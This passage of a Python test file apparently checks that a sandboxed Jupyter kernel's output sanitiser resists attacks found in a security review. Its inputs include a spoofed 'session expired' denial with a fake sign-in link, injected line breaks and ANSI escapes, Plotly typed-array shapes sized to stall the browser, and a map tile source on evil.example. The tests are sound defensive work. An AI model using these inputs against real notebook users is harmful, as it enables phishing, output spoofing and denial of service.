        return field(self, key)

    figure = {"data": [{"type": "scatter", "x": [1], "y": [1]}],
              "layout": {"updatemenus": [{"buttons": [{"method": "restyle", "label": "b",
                                                       "args": [{f"x.junk{i}": 1 for i in range(1000)}]}]}]}}
    plotlyfigure.Obj.field = counting
    try:
        plotlyfigure.validate_figure(figure)
    finally:
        plotlyfigure.Obj.field = field
    assert calls[0] < 1000 * 5, calls[0]


# == Output review 3 (2026-11-26 20:39-20:57 UTC, against 26b9f81; record in docs/reviews.md) ======================
# Its findings O3-1 (a caught denial's fields rewritten by the cell), O3-2 (typed arrays with a zero dimension) and
# O3-3 (U+2028/U+2029 in a denial's one line) were fixed at e282dcb; its attempts that held follow them.

# -- O3-1: a genuine denial carries the cell's sentence -------------------------------------------------
# Output review 3 (2026-11-26, against 26b9f81), finding O3-1: fixed at e282dcb; its strict xfail is now a plain
# test (same attack, same assertions).

# Python's str.splitlines() boundaries other than "\n" and "\r\n"
EXTRA_LINE_BREAKS = re.compile("[\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\r]")


def errors(result) -> list[dict]:
    return [o for o in result["outputs"] if o["type"] == "error"]


REWRITE_DENIAL = '''\
try:
    import os
except ImportError as e:
    e.target = "pandas"
    e.policy = "admin"
    e.rule = "your Jupyter session expired"
    e.hint = "Sign in again at https://jupyter-login.example and re-run"
    raise
'''


def test_a_caught_denial_cannot_be_rewritten_and_shown_as_the_sandboxs(kernel):
    result = kernel.run(REWRITE_DENIAL)
    shown = errors(result)
    if not shown:
        raise RuntimeError(f"the cell raised nothing: {result}")
    marked = [line for e in shown for line in e["traceback"] if line.startswith(DENIAL_MARK)]
    cell_words = ("jupyter-login.example", "session expired", "'pandas'", "'admin'")
    assert not [line for line in marked if any(w in line for w in cell_words)], marked
    recorded = result.get("denials") or []
    assert not [d for d in recorded if d.get("target") == "pandas" or d.get("policy") == "admin"], recorded


def test_a_caught_denial_takes_no_cell_objects_as_its_fields(kernel):
    """Held: the engine formats a denial's fields after the cell; the cell cannot put its objects there."""
    result = kernel.run('''\
class T(str):
    def __format__(self, spec):
        print("FORMAT RAN")
        return "formatted"
try:
    import os
except ImportError as e:
    e.target = T("x")
    raise
''')
    text = "".join(o.get("text", "") for o in result["outputs"] if o["type"] == "stream")
    assert "FORMAT RAN" not in text
    assert [e["ename"] for e in errors(result)] == ["AttributeDenied"]


def test_a_caught_denials_rewritten_hint_stays_one_clean_line(kernel):
    """Held (the part of O3-1 the one-line rule covers): no line break, mark or control survives."""
    result = kernel.run('''\
try:
    import os
except ImportError as e:
    e.hint = "a\\n\\u26d4 ImportDenied: more \\x1b[2J"
    raise
''')
    (error,) = errors(result)
    (line,) = error["traceback"]
    assert line.startswith(DENIAL_MARK) and line.count(DENIAL_MARK) == 1
    assert "\n" not in line and "\x1b" not in line


# -- O3-3: U+2028 inside the one line of a denial --------------------------------------------------------
# Output review 3 (2026-11-26, against 26b9f81), finding O3-3: fixed at e282dcb; its strict xfail is now a plain
# test (same attack, same assertions).


def test_a_denial_line_holds_no_other_line_break(kernel):
    name = "_a" + "\u2028" + FORGED_IMPORT
    result = kernel.run(f"x = 1\ngetattr(x, {name!r})")
    (error,) = errors(result)
    if not error["traceback"] or not error["traceback"][0].startswith(DENIAL_MARK):
        raise RuntimeError(f"not a denial: {error}")
    for field in (error["evalue"], *error["traceback"]):
        assert not EXTRA_LINE_BREAKS.search(field), field
        assert not [line for line in field.splitlines() if line.startswith("ImportDenied:")]


# -- O3-2: a typed array whose shape has a zero dimension -------------------------------------------------
# Output review 3 (2026-11-26, against 26b9f81), finding O3-2: fixed at e282dcb; its strict xfail is now a plain
# test (same attack, same assertions).


def _loop_steps_plotly_js_makes(spec: dict) -> int:
    """How many steps plotly.js's decodeTypedArraySpec (lib/array.js) takes for `spec`: the shape is
    reversed, its first entry is the row length; 2-D loops over the second (one view per row), 3-D loops
    over the third and, inside, over the second (an array per plane, a view per row)."""
    shape = spec.get("shape")
    if shape is None:
        return 1
    dims = [int(d) for d in str(shape).split(",")][::-1]
    if len(dims) == 2:
        return dims[1]
    if len(dims) == 3:
        return dims[2] + dims[2] * dims[1]
    return 1


def _typed_arrays(value):
    if isinstance(value, dict):
        if "bdata" in value and "dtype" in value:
            yield value
        else:
            for item in value.values():
                yield from _typed_arrays(item)
    elif isinstance(value, list):
        for item in value:
            yield from _typed_arrays(item)


ZERO_SHAPES = ["1000000000, 0", "1000, 1000000, 0", "1000000000, 0, 7", "999999999999, 0"]


@pytest.mark.parametrize("shape", ZERO_SHAPES)
def test_a_typed_arrays_shape_costs_the_browser_no_more_than_its_data(kernel, shape):
    figure = {"data": [{"type": "heatmap", "z": {"dtype": "f8", "bdata": "", "shape": shape}}], "layout": {}}
    clean = show_plotly(kernel, figure)
    worst = max((_loop_steps_plotly_js_makes(t) for t in _typed_arrays(clean)), default=0)
    assert worst <= 1_000_000, f"plotly.js would take {worst:,} steps (views, arrays) for an empty array"


def test_a_zero_row_length_costs_plotly_js_nothing(kernel):
    """Held (control): zero rows of 10^9 columns (numpy order): plotly.js loops over the rows, so nothing."""
    clean = show_plotly(kernel, {"data": [{"type": "heatmap", "z": {"dtype": "f8", "bdata": "",
                                                                     "shape": "0, 1000000000"}}]})
    assert max((_loop_steps_plotly_js_makes(t) for t in _typed_arrays(clean)), default=0) == 0


def test_an_honest_two_dimensional_typed_array_is_kept(kernel):
    """Held/control: a 2 x 2 float64 z leaves as it came."""
    z = {"dtype": "f8", "bdata": "AAAAAAAA8D8AAAAAAAAAQAAAAAAAAAhAAAAAAAAAEEA=", "shape": "2, 2"}
    clean = show_plotly(kernel, {"data": [{"type": "heatmap", "z": z}]})
    assert clean["data"][0]["z"] == z


def test_a_typed_array_whose_shape_disagrees_with_its_data_is_dropped(kernel):
    """Held: a shape whose product is not the element count is refused."""
    z = {"dtype": "f8", "bdata": "AAAAAAAA8D8=", "shape": "1000000000, 1"}
    clean = show_plotly(kernel, {"data": [{"type": "heatmap", "z": z}]})
    assert "z" not in clean["data"][0]


# -- Output review 3, held: map subplots and menus -------------------------------------------------------------------


def test_a_frame_layout_naming_a_new_map_subplot_gets_the_blank_style(kernel):
    clean = show_plotly(kernel, {"data": [{"type": "scatter", "y": [1]}],
                                 "frames": [{"name": "f", "layout": {"map3": {"zoom": 2}}}]})
    assert blank_style(clean["frames"][0]["layout"]["map3"])


def test_relayout_of_whole_map_layers_keeps_no_remote_source(kernel):
    raster = {"sourcetype": "raster", "source": ["https://evil.example/{z}/{x}/{y}.png"]}
    clean = show_plotly(kernel, {"data": [{"type": "scatter", "y": [1]}], "layout": {"updatemenus": [{"buttons": [
        {"method": "relayout", "args": ["map3.layers[0]", raster]},
        {"method": "relayout", "args": [{"map.layers": [raster]}]}]}]}})
    assert "evil.example" not in repr(clean)


def test_a_template_button_with_another_method_keeps_only_blank_styles(kernel):
    clean = show_plotly(kernel, {"data": [{"type": "scatter", "y": [1]}], "layout": {
        "updatemenus": [{"buttons": [{"templateitemname": "b", "label": "go", "method": "restyle"}]}],
        "template": {"layout": {"updatemenus": [{"buttons": [
            {"name": "b", "method": "relayout", "args": [{"map2.style": "open-street-map"}]}]}]}}}})
    assert "open-street-map" not in repr(clean)
